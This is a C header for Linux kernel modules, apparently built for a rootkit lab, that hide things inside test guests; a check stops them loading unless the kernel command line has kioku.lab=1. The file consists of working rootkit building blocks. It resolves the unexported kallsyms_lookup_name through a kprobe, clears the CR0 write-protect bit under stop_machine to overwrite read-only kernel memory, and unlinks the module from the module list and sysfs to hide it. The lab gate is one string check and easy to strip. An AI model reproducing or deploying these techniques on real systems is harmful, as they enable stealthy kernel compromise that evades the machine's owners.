/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * What the modules share that hide things in guests of the lab. They harm the machine that they run on, so
 * that they refuse to load unless its command line has kioku.lab=1.
 */
#ifndef LAB_H
#define LAB_H

#include <linux/fs.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include <linux/version.h>

/* 0, or why this machine is none of the lab. */
static int lab_allows(void)
{
	static char line[2048];
	struct file *file = filp_open("/proc/cmdline", O_RDONLY, 0);
	loff_t position = 0;
	ssize_t size;

	if (IS_ERR(file))
		return -EPERM;
	size = kernel_read(file, line, sizeof(line) - 1, &position);
	filp_close(file, NULL);
	if (size <= 0 || !strstr(line, "kioku.lab=1")) {
		pr_err("%s: only for guests with kioku.lab=1\n", KBUILD_MODNAME);
		return -EPERM;
	}
	return 0;
}

/* kallsyms_lookup_name() is not exported any more (v5.7); a probe knows where it is. */
static __maybe_unused unsigned long lab_symbol(const char *name)
{
	static unsigned long (*lookup)(const char *name);
	static struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

	if (!lookup) {
		if (register_kprobe(&probe) < 0)
			return 0;
		lookup = (void *)probe.addr;
		unregister_kprobe(&probe);
	}
	return lookup(name);
}

struct lab_write {
	void *to;
	const void *from;
	size_t size;
};

static __maybe_unused int lab_write_alone(void *argument)
{
	struct lab_write *write = argument;
	unsigned long cr0, flags;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" ::"r"(cr0 & ~0x10000UL) : "memory"); /* WP */
	memcpy(write->to, write->from, write->size);
	asm volatile("mov %0, %%cr0" ::"r"(cr0) : "memory");
	local_irq_restore(flags);
	return 0;
}

/* Writes where it is forbidden to, while no other CPU does anything. */
static __maybe_unused void lab_overwrite(void *to, const void *from, size_t size)
{
	struct lab_write write = { to, from, size };

	stop_machine(lab_write_alone, &write, NULL);
}

/* The list of modules, and sysfs. */
static __maybe_unused void lab_hide_self(void)
{
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
}

#endif
